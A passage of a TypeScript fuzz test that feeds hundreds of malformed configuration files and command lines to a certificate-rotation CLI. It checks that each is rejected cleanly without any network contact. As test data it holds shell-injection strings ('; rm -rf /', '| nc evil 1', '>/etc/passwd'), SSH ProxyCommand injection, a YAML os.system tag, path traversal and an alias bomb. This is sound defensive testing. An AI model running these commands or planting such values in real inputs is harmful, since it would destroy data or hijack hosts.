// Fuzz: a corpus of 300+ malformed or mistaken inputs (inventories, playbooks, command lines, environments), each run against
// the BUILT CLI (`node dist/cli/bin.js`) as a child process. Each must end in exit 3 with a message naming the file and line
// (or the flag), no stack trace, within 2 s, and no TCP connection: every test inventory points at a real listener here,
// which must see zero connections. The YAML cases are also checked in-process (file, line and field of every issue).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile, execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { dump, load } from 'js-yaml';
import { loadInputs } from '../../src/run/inputs.js';
import { InputError } from '../../src/errors.js';

const SEED = Number(process.env.FUZZ_SEED ?? 20261123);
/** Child processes at once (the machine has 2 cores, shared). */
const CONCURRENCY = Number(process.env.FUZZ_CONCURRENCY ?? 2);
/**
 * Each case must cost the CLI under 2 s of CPU (user + system, measured by /usr/bin/time when present), and end within 10 s
 * of wall time: on a shared 2-core machine the wall clock measures the neighbours as much as certroll. Where no
 * /usr/bin/time exists, the 2 s limit applies to the wall clock.
 */
const CASE_LIMIT_MS = 2000;
const WALL_LIMIT_MS = 10_000;
const TIME = existsSync('/usr/bin/time') ? '/usr/bin/time' : undefined;
/** The built CLI under test (FUZZ_CLI points elsewhere, e.g. a second build while dist/ is in use by the lab tests). */
const CLI = process.env.FUZZ_CLI ?? 'dist/cli/bin.js';
const dir = mkdtempSync(join(tmpdir(), 'certroll-fuzz-'));

// The listener every test inventory points at (IPv4 on all addresses, so 127.0.99.x reaches it; IPv6 too).
let listenPort = 0;
let connections = 0;
const servers: Server[] = [];
async function listen(host: string, port: number, ipv6Only = false): Promise<number> {
  const s = createServer((sock) => {
    connections++;
    sock.destroy();
  });
  servers.push(s);
  await new Promise<void>((resolve, reject) => {
    s.once('error', reject);
    s.listen({ host, port, ipv6Only }, () => resolve());
  });
  return (s.address() as { port: number }).port;
}
afterAll(async () => {
  await Promise.all(servers.map((s) => new Promise((r) => s.close(r))));
  rmSync(dir, { recursive: true, force: true });
});

/** mulberry32: a small seeded PRNG so every failure can be replayed with FUZZ_SEED. */
function prng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!;
  return { next, int, pick };
}
type Rng = ReturnType<typeof prng>;

/**
 * A valid inventory whose hosts (127.0.99.x) all point at the port of this test's TCP listener: any connection attempt, from
 * any case, is counted (and the run would end in exit 2, not 3).
 */
function validInventory(): Record<string, unknown> {
  return {
    vars: { certDir: '/srv/kubernetes', manifestsDir: '/opt/kubernetes/manifests-multi', parkDir: '/opt/kubernetes', etcdClientPort: 4001, serviceIp: '10.10.10.1', extraSans: [] },
    ssh: { user: 'root', port: listenPort, identityFile: join(dir, 'no-such-key'), knownHostsFile: join(dir, 'known_hosts'), connectTimeout: 2, commandTimeout: 5 },
    hosts: { 'fz-1': { address: '127.0.99.1' }, 'fz-2': { address: '127.0.99.2' }, 'fz-3': { address: '127.0.99.3' }, 'fz-m': { address: '127.0.99.9' } },
    groups: { master: ['fz-1', 'fz-2', 'fz-3'], etcd: ['fz-1', 'fz-2', 'fz-3'], flannel: ['fz-1'], manager: ['fz-m'] },
  };
}
let validPlaybookText: string;
const validPlaybook = () => load(validPlaybookText) as { files: Record<string, unknown>; steps: Array<Record<string, unknown>>; [k: string]: unknown };

const SHELL = ['; rm -rf /', '$(reboot)', '`id`', '| nc evil 1', '&& touch /tmp/pwned', "'; id; '", '"$HOME"', '\\', '>/etc/passwd', '*', '?', '!', '#', '~root', '%n%n', '\u0000', '\t', ' ', '\u202e', '${IFS}'];
const withShell = (r: Rng, base: string) => (r.next() < 0.5 ? base + r.pick(SHELL) : r.pick(SHELL) + base);
const huge = (r: Rng) => r.pick([1e308, -1e308, 99999999999999999999, 2 ** 53 + 1, -1, 0.5, 'x'.repeat(100_000 + r.int(10)), '9'.repeat(400)]);
const wrongType = (r: Rng) => r.pick<unknown>([[], {}, true, false, [1, 2], { a: 1 }, 3.14, '', [[[[]]]], { address: { address: 'x' } }]);

/** Paths of the inventory with values each is guaranteed to reject. */
const inventoryMutations: Array<{ name: string; apply: (inv: Record<string, any>, r: Rng) => void }> = [
  { name: 'ssh.port', apply: (i, r) => (i.ssh.port = r.pick<unknown>(['22a', 0, 65536, 70000, ...[huge(r)], wrongType(r), withShell(r, '22')])) },
  { name: 'host address', apply: (i, r) => (i.hosts['fz-2'].address = r.pick<unknown>([withShell(r, '127.0.99.2'), '-oProxyCommand=sh', 'a b', huge(r), wrongType(r), '256.1.1.1.1', 'x'.repeat(300)])) },
  { name: 'host name', apply: (i, r) => { const n = withShell(r, 'fz'); i.hosts[n] = { address: '127.0.99.7' }; i.groups.etcd.push(n); } },
  { name: 'group name', apply: (i, r) => (i.groups[withShell(r, 'grp')] = ['fz-1']) },
  { name: 'group member', apply: (i, r) => i.groups.etcd.push(r.pick<unknown>([withShell(r, 'fz-9'), 'nosuchhost', huge(r), wrongType(r)])) },
  { name: 'vars.certDir', apply: (i, r) => (i.vars.certDir = r.pick<unknown>([withShell(r, '/srv/kubernetes'), 'srv/kubernetes', '/', '/srv/../etc', '/srv/./k', '/srv/a b', `/srv/${'a\nb'}`, huge(r), wrongType(r)])) },
  { name: 'host vars.certDir', apply: (i, r) => (i.hosts['fz-1'].vars = { certDir: withShell(r, '/srv/k') }) },
  { name: 'vars.manifestsDir', apply: (i, r) => (i.vars.manifestsDir = r.pick<unknown>([withShell(r, '/opt/m'), '../m', huge(r), wrongType(r)])) },
  { name: 'vars.etcdClientPort', apply: (i, r) => (i.vars.etcdClientPort = r.pick<unknown>(['4001x', -4001, 65536, huge(r), wrongType(r)])) },
  { name: 'vars.serviceIp', apply: (i, r) => (i.vars.serviceIp = r.pick<unknown>(['10.10.10.300', withShell(r, '10.0.0.1'), 'kubernetes', huge(r), wrongType(r)])) },
  { name: 'vars.extraSans', apply: (i, r) => (i.vars.extraSans = r.pick<unknown>([[withShell(r, 'etcd.local')], ['a..b'], 'etcd.local', [huge(r)], { a: 1 }, ['x', 'x']])) },
  { name: 'ssh.user', apply: (i, r) => (i.ssh.user = r.pick<unknown>([withShell(r, 'root'), 'x'.repeat(40), '-oProxyCommand', huge(r), wrongType(r)])) },
  { name: 'ssh.identityFile', apply: (i, r) => (i.ssh.identityFile = r.pick<unknown>([withShell(r, '/root/.ssh/id'), 'id_rsa', '~bob/id', huge(r), wrongType(r)])) },
  { name: 'ssh.connectTimeout', apply: (i, r) => (i.ssh.connectTimeout = r.pick<unknown>([0, -5, 3601, '10s', huge(r), wrongType(r)])) },
  { name: 'ssh.become', apply: (i, r) => (i.ssh.become = r.pick<unknown>(['yes', 1, 'true ', withShell(r, 'sudo'), [], {}])) },
  { name: 'unknown key', apply: (i, r) => (i[r.pick(['hostz', 'var', 'sssh', withShell(r, 'k')])] = {}) },
  { name: 'hosts shape', apply: (i, r) => (i.hosts = r.pick<unknown>([[], 'fz-1', 5, null, [{ address: '127.0.99.1' }]])) },
  { name: 'groups shape', apply: (i, r) => (i.groups = r.pick<unknown>([[], 'etcd', 5, { etcd: 'fz-1 fz-2' }, { etcd: [[]] }])) },
  { name: 'no etcd hosts', apply: (i) => (i.groups.etcd = []) },
  { name: 'deep nesting', apply: (i, r) => { let v: unknown = 'x'; for (let k = 0, n = 50 + r.int(200); k < n; k++) v = r.next() < 0.5 ? [v] : { k: v }; i.vars.certDir = v; } },
  { name: 'many hosts, one bad', apply: (i, r) => { for (let k = 0; k < 2000; k++) i.hosts[`h${k}`] = { address: `127.0.${99 + (k >> 8)}.${k & 255}` }; i.hosts[`h${r.int(2000)}`].address = withShell(r, '127.0.99.1'); } },
];

/** Steps and fields of the playbook with values each is guaranteed to reject. */
const stepOf = (p: ReturnType<typeof validPlaybook>, type: string) => p.steps.find((s) => s.type === type)!;
const playbookMutations: Array<{ name: string; apply: (p: ReturnType<typeof validPlaybook>, r: Rng) => void }> = [
  { name: 'files.*', apply: (p, r) => (p.files[r.pick(['ca', 'caKey', 'cert', 'key'])] = r.pick<unknown>([withShell(r, 'etcd.pem'), '../etc/passwd', 'a/../b.pem', '', huge(r), wrongType(r)])) },
  { name: 'step type', apply: (p, r) => (p.steps[r.int(p.steps.length)]!.type = r.pick<unknown>(['shell', 'rm -rf /', withShell(r, 'backup'), 'Backup', huge(r), wrongType(r), null])) },
  { name: 'manifests', apply: (p, r) => (stepOf(p, 'rolling-restart').manifests = r.pick<unknown>([[withShell(r, 'tos-etcd.manifest')], ['../x.manifest'], [], 'tos-etcd.manifest tos-apiserver.manifest', [huge(r)], ['a', 'a']])) },
  { name: 'pauseSeconds', apply: (p, r) => (stepOf(p, 'rolling-restart')[r.pick(['pauseSeconds', 'stopTimeoutSeconds', 'healthTimeoutSeconds', 'maxRaftLag'])] = r.pick<unknown>([-1, 3.5, '30s', 10_000_000, huge(r), wrongType(r), withShell(r, '30')])) },
  { name: 'targets', apply: (p, r) => (stepOf(p, r.pick(['backup', 'distribute', 'rolling-restart', 'verify'])).targets = r.pick<unknown>([withShell(r, 'etcd'), [withShell(r, 'all')], 'first(master', [], 'nosuchgroup', ['etcd', 'first(nosuch)'], huge(r), { etcd: 1 }])) },
  { name: 'on', apply: (p, r) => (stepOf(p, r.pick(['renew-ca', 'issue-cert', 'restart-flannel'])).on = r.pick<unknown>([withShell(r, 'first(master)'), 'first(master),first(etcd)', ['first(master)'], huge(r)])) },
  { name: 'skipIfMissing', apply: (p, r) => (stepOf(p, 'restart-flannel').skipIfMissing = r.pick<unknown>([withShell(r, 'kubectl'), '/usr/bin/kubectl', huge(r), wrongType(r)])) },
  { name: 'argv', apply: (p, r) => (stepOf(p, 'rolling-restart').containerCheck = r.pick<unknown>([[], 'docker ps', [''], ['docker', 'p\ns'], [['docker']], ['x'.repeat(5000)], [huge(r)]])) },
  { name: 'template reference', apply: (p, r) => (stepOf(p, 'rolling-restart').apiserverCheck = ['sh', '-c', `echo {{ ${r.pick(['env.HOME', 'process.exit', 'secrets.key', 'constructor', '__proto__.x'])} }}`]) },
  { name: 'days / keyType', apply: (p, r) => (r.next() < 0.5 ? (stepOf(p, 'renew-ca').days = r.pick<unknown>([0, -1, 100000, huge(r), '36500d'])) : (stepOf(p, 'issue-cert').keyType = r.pick<unknown>(['rsa1024', 'dsa', withShell(r, 'rsa2048'), 5]))) },
  { name: 'unknown step key', apply: (p, r) => (p.steps[r.int(p.steps.length)]![r.pick(['sudo', 'when', 'shell', withShell(r, 'x')])] = 'true') },
  { name: 'steps shape', apply: (p, r) => (p.steps = r.pick<unknown>([[], 'backup', null, 5, [[]], [null], [{}]]) as never) },
  { name: 'name / etcdctl', apply: (p, r) => (r.next() < 0.5 ? (p.name = r.pick<unknown>(['', [], {}, 'x'.repeat(300)])) : (p.etcdctl = r.pick<unknown>([[], 'etcdctl', [''], [{}]]))) },
];

/** Text that is not a valid inventory/playbook: random bytes from YAML's own alphabet, and known YAML traps. */
function randomYaml(r: Rng): string {
  const traps = [
    '',
    '---\n---\n',
    'a: 1\na: 2\n',
    '\tkey: value\n',
    'key: [unclosed\n',
    'key: {a: 1\n',
    '? [complex, key]\n: v\n',
    '!!python/object/apply:os.system ["id"]\n',
    '!<tag:yaml.org,2002:js/function> "function(){}"\n',
    'a: &x 1\nb: *y\n',
    '<<: {hosts: {}}\n',
    'hosts: !!binary aGVsbG8=\n',
    '%YAML 9.9\n---\nx: 1\n',
    '"\\u0000": 1\n',
    'a: b: c\n',
    '- - - -\n  - x\n',
    '@reserved\n',
    '`backtick\n',
    '\uFEFF\uFEFFhosts: {}\n',
    'hosts:\n  x:\n    address: 127.0.99.1\n   bad-indent: 1\n',
  ];
  if (r.next() < 0.35) return r.pick(traps);
  const alphabet = [':', ' ', '-', '\n', '  ', '{', '}', '[', ']', ',', '#', '&', '*', '!', '|', '>', "'", '"', '%', '@', '`', '?', 'hosts', 'vars', 'steps', 'type', 'a', '1', '\t', '\\', '$(id)', ';', '\u00e9', '\uD83D\uDE00'];
  let s = '';
  for (let k = 0, n = 1 + r.int(120); k < n; k++) s += r.pick(alphabet);
  return s;
}

/** A billion-laughs style alias fan-out (kept small: every node is walked). */
function aliasBomb(levels: number): string {
  const lines = ['l0: &l0 [x, x, x, x, x, x, x, x, x, x]'];
  for (let k = 1; k < levels; k++) lines.push(`l${k}: &l${k} [${Array(10).fill(`*l${k - 1}`).join(', ')}]`);
  return lines.join('\n') + '\n';
}

interface Case {
  id: string;
  /** Command line after `node dist/cli/bin.js`. */
  args: string[];
  env?: Record<string, string | undefined>;
  /** Expected exit code (3 unless said otherwise). */
  code?: number;
  /** The broken file(s): the message must name one of them with a line, unless `noLine`. */
  broken: string[];
  noLine?: boolean;
  /** What the message must say (the field, the flag, the reason). */
  mention?: RegExp;
  /** For YAML cases: the inventory and playbook, for the in-process check. */
  files?: { inventory: string; playbook: string };
}

const esc = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

function makeCases(r: Rng): Case[] {
  const cases: Case[] = [];
  let n = 0;
  const id = (kind: string) => `${String(n++).padStart(3, '0')}-${kind.replace(/[^a-z0-9]+/gi, '_').slice(0, 40)}`;
  const write = (name: string, text: string | Buffer) => {
    const p = join(dir, name);
    writeFileSync(p, text);
    return p;
  };
  const goodInv = write('good-inventory.yaml', dump(validInventory()));
  const goodPb = write('good-playbook.yaml', validPlaybookText);
  const dumpY = (v: unknown) => dump(v, { skipInvalid: true, lineWidth: -1 });

  /** A YAML case: a broken inventory and/or playbook, run with `plan` (or `run --yes`, `rollback`, `check` for some). */
  const yamlCase = (kind: string, inv: string | null, pb: string | null, extra: Partial<Case> = {}) => {
    const k = id(kind);
    const i = inv === null ? goodInv : write(`${k}-inventory.yaml`, inv);
    const p = pb === null ? goodPb : write(`${k}-playbook.yaml`, pb);
    const command = n % 7 === 0 ? ['run', '--yes', '-i', i, p] : ['plan', '-i', i, p];
    cases.push({ id: k, args: command, broken: [...(inv === null ? [] : [i]), ...(pb === null ? [] : [p])], files: { inventory: i, playbook: p }, ...extra });
  };
  const flagCase = (kind: string, args: string[], mention: RegExp, extra: Partial<Case> = {}) =>
    cases.push({ id: id(kind), args, broken: [], mention, ...extra });

  // 1. Random YAML and known YAML traps.
  for (let k = 0; k < 20; k++) yamlCase('random-yaml-inventory', randomYaml(r), null);
  for (let k = 0; k < 16; k++) yamlCase('random-yaml-playbook', null, randomYaml(r));

  // 2. Typed mutations of a valid inventory / playbook.
  for (let k = 0; k < 2 * inventoryMutations.length; k++) {
    const m = inventoryMutations[k % inventoryMutations.length]!;
    const inv = validInventory() as Record<string, any>;
    m.apply(inv, r);
    if (r.next() < 0.15) inventoryMutations[r.int(inventoryMutations.length)]!.apply(inv, r);
    yamlCase(`inventory-${m.name}`, dumpY(inv), null);
  }
  for (let k = 0; k < 3 * playbookMutations.length; k++) {
    const m = playbookMutations[k % playbookMutations.length]!;
    const pb = validPlaybook();
    m.apply(pb, r);
    yamlCase(`playbook-${m.name}`, null, dumpY(pb));
  }
  for (let k = 0; k < 5; k++) {
    const inv = validInventory() as Record<string, any>;
    inventoryMutations[r.int(inventoryMutations.length)]!.apply(inv, r);
    const pb = validPlaybook();
    playbookMutations[r.int(playbookMutations.length)]!.apply(pb, r);
    yamlCase('both-broken', dumpY(inv), dumpY(pb));
  }
  yamlCase('alias-bomb-inventory', dump(validInventory()) + aliasBomb(4), null);
  yamlCase('alias-bomb-playbook', null, validPlaybookText + aliasBomb(4));
  yamlCase('huge-file', 'hosts:\n' + Array.from({ length: 20000 }, (_, k) => `  h${k}: { address: "127.0.99.${k % 250}; id" }`).join('\n') + '\n', null);
  yamlCase('binary-garbage', Buffer.from(Array.from({ length: 4096 }, () => r.int(256))).toString('latin1'), null);
  yamlCase('inventory-not-a-mapping', '- just\n- a list\n', null, { mention: /expected a mapping with hosts: and groups:/ });
  yamlCase('inventory-scalar', 'hello\n', null, { mention: /expected a mapping with hosts: and groups:.*got "hello"/ });
  yamlCase('inventory-empty', '', null, { mention: /got nothing/ });
  yamlCase('inventory-comments-only', '# nothing\n', null, { mention: /got nothing/ });

  // 3. The playbook's safety rules, each broken on purpose.
  const steps = () => validPlaybook();
  const without = (type: string) => { const p = steps(); p.steps = p.steps.filter((s) => s.type !== type); return dumpY(p); };
  const moved = (type: string, to: number) => { const p = steps(); const i = p.steps.findIndex((s) => s.type === type); const [s] = p.steps.splice(i, 1); p.steps.splice(to, 0, s!); return dumpY(p); };
  const withStep = (p: ReturnType<typeof validPlaybook>, type: string, over: Record<string, unknown>) => { Object.assign(stepOf(p, type), over); return dumpY(p); };
  yamlCase('rule-no-preflight', null, without('preflight'), { mention: /steps: no preflight step/ });
  yamlCase('rule-preflight-late', null, moved('preflight', 2), { mention: /steps\[2\]\.type: preflight is step 3: it must be the first step/ });
  yamlCase('rule-no-backup', null, without('backup'), { mention: /steps\[1\]\.type: renew-ca changes hosts but the playbook has no backup step/ });
  yamlCase('rule-backup-late', null, moved('backup', 5), { mention: /changes hosts before the backup/ });
  yamlCase('rule-backup-last', null, moved('backup', 9), { mention: /renew-ca \(step 2\) changes hosts before the backup \(step 10\)/ });
  yamlCase('rule-renew-after-distribute', null, moved('renew-ca', 4), { mention: /renew-ca \(step 5\) comes after distribute \(step 4\)/ });
  yamlCase('rule-issue-after-distribute', null, moved('issue-cert', 5), { mention: /issue-cert \(step 6\) comes after distribute/ });
  yamlCase('rule-restart-before-distribute', null, moved('rolling-restart', 4), { mention: /rolling-restart \(step 5\) comes before any distribute step/ });
  yamlCase('rule-no-distribute', null, without('distribute'), { mention: /rolling-restart .* comes before any distribute step/ });
  { const p = steps(); p.steps.splice(6, 0, { type: 'rolling-restart', targets: ['etcd'] }); yamlCase('rule-two-restarts', null, dumpY(p), { mention: /steps\[6\]\.targets: "etcd" is already restarted by step 6/ }); }
  { const p = steps(); p.steps.splice(6, 0, { type: 'rolling-restart', targets: 'all' }); yamlCase('rule-restart-all-twice', null, dumpY(p), { mention: /"all" is already restarted by step 6/ }); }
  { const p = steps(); p.steps.splice(3, 0, { type: 'renew-ca' }); yamlCase('rule-two-renew-ca', null, dumpY(p), { mention: /a second renew-ca step/ }); }
  { const p = steps(); p.steps.push({ type: 'preflight' }); yamlCase('rule-two-preflights', null, dumpY(p), { mention: /a second preflight step/ }); }
  for (const [role, name] of [['cert', 'etcd-ca-key.pem'], ['ca', 'etcd-ca-key.pem'], ['key', 'etcd-ca-key.pem'], ['key', 'etcd.pem'], ['ca', 'etcd.pem']] as const) {
    const p = steps();
    p.files[role] = name;
    yamlCase(`rule-files-${role}-${name}`, null, dumpY(p), { mention: new RegExp(`files\\.\\w+: files\\.\\w+ is "${esc(name)}", the same file as`) });
  }
  for (const bad of ['.', '..', 'a/b', '/etc/passwd', '../x']) {
    const p = steps();
    // files: may be relative paths inside the cert dir (kubeadm's pki/etcd/ca.crt), never absolute or with . or ..
    p.files.caKey = bad === 'a/b' ? 'a/./b' : bad;
    yamlCase(`rule-files-plain-${bad}`, null, dumpY(p), { mention: /files\.caKey: expected a file name or a relative path inside the cert dir/ });
    yamlCase(`rule-manifest-plain-${bad}`, null, withStep(steps(), 'rolling-restart', { manifests: ['tos-etcd.manifest', bad] }), { mention: /steps\[5\]\.manifests\[1\]: expected a plain file name/ });
  }
  for (const f of ['stopTimeoutSeconds', 'healthTimeoutSeconds'])
    for (const v of [0, -1, 0.5, '.inf'])
      yamlCase(`rule-${f}-${v}`, null, withStep(steps(), 'rolling-restart', { [f]: v === '.inf' ? Infinity : v }), { mention: new RegExp(`steps\\[5\\]\\.${f}: expected an integer 1-3600`) });
  for (const v of [-1, 1.5, Infinity, NaN, 3601])
    yamlCase(`rule-pause-${v}`, null, withStep(steps(), 'rolling-restart', { pauseSeconds: v }), { mention: /steps\[5\]\.pauseSeconds: expected an integer 0-3600/ });
  for (const [from, to] of [['87600h', '8760h'], ['876000h', '87600h'], ['8760h1s', '8760h'], ['100000h', '5999m']])
    yamlCase(`rule-expiry-${from}-${to}`, null, withStep(steps(), 'manager-templates', { expiryFrom: from, expiry: to }), { mention: new RegExp(`steps\\[8\\]\\.expiry: expiry ${to} is shorter than expiryFrom ${from}`) });
  for (const bad of ['87600', '10d', '-1h', '0h', 'h', '1e9h'])
    yamlCase(`rule-expiry-syntax-${bad}`, null, withStep(steps(), 'manager-templates', { expiry: bad }), { mention: /steps\[8\]\.expiry: expected a Go duration/ });

  // 4. Templates: resolved for every targeted host at load (the issue's example: {{ host.nosuch }} in containerCheck).
  const tpl: Array<[string, string, RegExp]> = [
    ['containerCheck', '{{ host.nosuch }}', /steps\[5\]\.containerCheck\[2\]: \{\{ host\.nosuch \}\}: unknown reference; host has/],
    ['containerCheck', '{{ vars.nosuch }}', /steps\[5\]\.containerCheck\[2\]: \{\{ vars\.nosuch \}\} refers to nothing for hosts fz-1, fz-2, fz-3/],
    ['containerCheck', '{{ vars.tosVersion }}', /\{\{ vars\.tosVersion \}\} is not set for hosts fz-1, fz-2, fz-3 \(set vars\.tosVersion in/],
    ['containerCheck', '{{ vars.managerDb.host }}', /\{\{ vars\.managerDb\.host \}\} is not set for hosts/],
    ['containerCheck', '{{ vars }}', /\{\{ vars \}\}: name a variable/],
    ['containerCheck', '{{ host }}', /\{\{ host \}\}: unknown reference; host has/],
    ['apiserverCheck', '{{ host.ip | upper }}', /steps\[5\]\.apiserverCheck\[2\]: a filter in \{\{ host\.ip \| upper \}\}/],
    ['apiserverCheck', '{{ 1 + 1 }}', /\{\{ 1 \+ 1 \}\}: an expression, not a plain reference/],
    ['apiserverCheck', '{{ host.ip', /unclosed "\{\{"/],
    ['apiserverCheck', '{{}}', /an empty \{\{ \}\}/],
    ['apiserverCheck', '{{ vars.constructor }}', /"constructor" is not a field name/],
    ['apiserverCheck', '{{ vars.__proto__.x }}', /"__proto__" is not a field name/],
    ['apiserverCheck', '{{ host.toString }}', /"toString" is not a field name/],
    ['apiserverCheck', "{{ vars['certDir'] }}", /an expression, not a plain reference/],
    ['apiserverCheck', '{{ process.env.HOME }}', /unknown reference; expected one starting with vars, host, files, etcd/],
  ];
  for (const [field, t, mention] of tpl) {
    const p = steps();
    Object.assign(stepOf(p, 'rolling-restart'), { [field]: ['sh', '-c', `echo ${t}`].slice(0, field === 'containerCheck' ? 2 : 3) });
    if (field === 'containerCheck') (stepOf(p, 'rolling-restart').containerCheck as string[]).push(t);
    yamlCase(`template-${field}-${t}`, null, dumpY(p), { mention });
  }
  { const p = steps(); Object.assign(stepOf(p, 'restart-flannel'), { command: ['kubectl', '{{ vars.nosuch }}'] }); yamlCase('template-flannel-command', null, dumpY(p), { mention: /steps\[6\]\.command\[1\]: \{\{ vars\.nosuch \}\} refers to nothing for host fz-1/ }); }
  { const p = steps(); p.etcdctl = ['etcdctl', '{{ vars.tosVersion }}']; yamlCase('template-etcdctl', null, dumpY(p), { mention: /etcdctl\[1\]: \{\{ vars\.tosVersion \}\} is not set for hosts fz-1, fz-2, fz-3/ }); }
  { const p = steps(); Object.assign(stepOf(p, 'rolling-restart'), { containerNames: ['{{ host.name }}'] }); yamlCase('template-not-templated-field', null, dumpY(p), { mention: /steps\[5\]\.containerNames\[0\]: "\{\{" is only filled in in etcdctl/ }); }
  { const inv = validInventory() as Record<string, any>; inv.hosts['fz-2'].vars = { tosVersion: 'tos-2.1' }; const p = steps(); (stepOf(p, 'rolling-restart').containerCheck as string[]).push('{{ vars.tosVersion }}'); yamlCase('template-one-host-missing', dumpY(inv), dumpY(p), { broken: [], mention: /\{\{ vars\.tosVersion \}\} is not set for hosts fz-1, fz-3/ }); }

  // 5. The playbook against the inventory: single-host steps, backups, directories, etcd hosts.
  { const p = steps(); stepOf(p, 'restart-flannel').on = 'master'; yamlCase('cross-on-three-hosts', null, dumpY(p), { mention: /steps\[6\]\.on: restart-flannel runs on one host, but "master" is 3 hosts \(fz-1, fz-2, fz-3\)/ }); }
  { const p = steps(); stepOf(p, 'manager-db').on = 'etcd'; yamlCase('cross-manager-db-on-group', null, dumpY(p), { mention: /steps\[9\]\.on: manager-db runs on one host, but "etcd" is 3 hosts/ }); }
  { const inv = validInventory() as Record<string, any>; inv.groups.flannel = []; const p = steps(); stepOf(p, 'restart-flannel').on = 'first(flannel)'; yamlCase('cross-on-empty-group', dumpY(inv), dumpY(p), { mention: /"first\(flannel\)" is no host/ }); }
  { const p = steps(); stepOf(p, 'backup').targets = ['etcd']; yamlCase('cross-backup-misses-hosts', null, dumpY(p), { mention: /steps\[4\]\.type: distribute changes fz-m, which no earlier backup step covers/ }); }
  { const p = steps(); stepOf(p, 'rolling-restart').targets = ['master']; p.steps.splice(6, 0, { type: 'rolling-restart', targets: ['first(etcd)'] }); yamlCase('cross-host-restarted-twice', null, dumpY(p), { mention: /would be restarted again/ }); }
  { const p = steps(); stepOf(p, 'distribute').targets = ['etcd', 'nosuchgroup']; yamlCase('cross-unknown-group', null, dumpY(p), { mention: /steps\[4\]\.targets\[1\]: target "nosuchgroup" names the group "nosuchgroup", which .* does not define/ }); }
  { const inv = validInventory() as Record<string, any>; inv.groups.etcd = []; yamlCase('cross-no-etcd-hosts', dumpY(inv), null, { mention: /groups\.etcd: the playbook restarts etcd but the inventory has no etcd hosts/ }); }
  const dirCase = (kind: string, vars: Record<string, string>, where: 'vars' | 'host' | 'group', mention: RegExp) => {
    const inv = validInventory() as Record<string, any>;
    if (where === 'vars') Object.assign(inv.vars, vars);
    else if (where === 'host') inv.hosts['fz-2'].vars = vars;
    else inv.groups.etcd = { hosts: ['fz-1', 'fz-2', 'fz-3'], vars };
    yamlCase(kind, dumpY(inv), null, { mention });
  };
  dirCase('dirs-park-equals-manifests', { parkDir: '/opt/kubernetes/manifests-multi' }, 'vars', /vars\.parkDir: parkDir \/opt\/kubernetes\/manifests-multi is the same directory as manifestsDir \/opt\/kubernetes\/manifests-multi on hosts fz-1, fz-2, fz-3, fz-m \(parkDir from vars\.parkDir, manifestsDir from vars\.manifestsDir\)/);
  dirCase('dirs-park-equals-cert', { parkDir: '/srv/kubernetes' }, 'host', /hosts\.fz-2\.vars\.parkDir: parkDir \/srv\/kubernetes is the same directory as certDir \/srv\/kubernetes on host fz-2 \(parkDir from hosts\.fz-2\.vars\.parkDir, certDir from vars\.certDir\)/);
  dirCase('dirs-park-inside-cert', { parkDir: '/srv/kubernetes/parked' }, 'group', /groups\.etcd\.vars\.parkDir: parkDir \/srv\/kubernetes\/parked is inside certDir \/srv\/kubernetes on hosts fz-1, fz-2, fz-3/);
  dirCase('dirs-manifests-equals-cert', { manifestsDir: '/srv/kubernetes' }, 'vars', /vars\.manifestsDir: manifestsDir \/srv\/kubernetes is the same directory as certDir \/srv\/kubernetes on hosts fz-1, fz-2, fz-3, fz-m/);
  dirCase('dirs-cert-equals-manifests', { certDir: '/opt/kubernetes/manifests-multi' }, 'host', /vars\.manifestsDir: manifestsDir \/opt\/kubernetes\/manifests-multi is the same directory as certDir \/opt\/kubernetes\/manifests-multi on host fz-2 \(manifestsDir from vars\.manifestsDir, certDir from hosts\.fz-2\.vars\.certDir\)/);
  dirCase('dirs-cert-equals-park', { certDir: '/opt/kubernetes' }, 'vars', /parkDir \/opt\/kubernetes is the same directory as certDir \/opt\/kubernetes on hosts fz-1, fz-2, fz-3, fz-m/);

  // 6. Inventory addresses: normalised duplicates, unusable addresses, long values.
  const addr = (kind: string, set: (inv: Record<string, any>) => void, mention: RegExp) => { const inv = validInventory() as Record<string, any>; set(inv); yamlCase(kind, dumpY(inv), null, { mention }); };
  for (const [a, b] of [['::1', '0:0:0:0:0:0:0:1'], ['::ffff:127.0.99.1', '127.0.99.1'], ['127.0.99.1', '::FFFF:7f00:6301'], ['FZ.example', 'fz.example.'], ['fe80::1', 'fe80:0:0::1']])
    addr(`dup-address-${a}`, (inv) => { inv.hosts['fz-1'].address = a; inv.hosts['fz-2'].address = b; }, /hosts\.fz-2\.address: .* port \d+ is also host "fz-1" \(line \d+\); each host must be a different machine/);
  for (const a of ['0.0.0.0', '::', '255.255.255.255', '224.0.0.1', '239.1.2.3', 'ff02::1', '::ffff:0.0.0.0', '0.0.0.1'])
    addr(`unusable-address-${a}`, (inv) => { inv.hosts['fz-3'].address = a; }, /hosts\.fz-3\.address: expected the address of a host, got ".*": (an unspecified|the unspecified|the broadcast|a multicast)/);
  for (const a of ['0.0.0.0', '255.255.255.255', 'ff05::2'])
    addr(`unusable-serviceIp-${a}`, (inv) => { inv.vars.serviceIp = a; }, /vars\.serviceIp: expected the address of a host/);
  for (const a of ['224.0.0.251', '::'])
    addr(`unusable-extraSan-${a}`, (inv) => { inv.vars.extraSans = ['etcd.local', a]; }, /vars\.extraSans\[1\]: expected an address a certificate can name/);
  addr('unusable-host-ip', (inv) => { inv.hosts['fz-1'].ip = '0.0.0.0'; }, /hosts\.fz-1\.ip: expected the address of a host/);
  addr('long-address-clipped', (inv) => { inv.hosts['fz-1'].address = 'a'.repeat(300) + ';'; }, new RegExp(`got "${'a'.repeat(80)}…"`));
  addr('long-key-clipped', (inv) => { inv.hosts['fz-1']['k'.repeat(500)] = 1; }, new RegExp(`${'k'.repeat(80)}…`));

  // 7. Files that are not regular files, or too big.
  mkdirSync(join(dir, 'a-directory.yaml'));
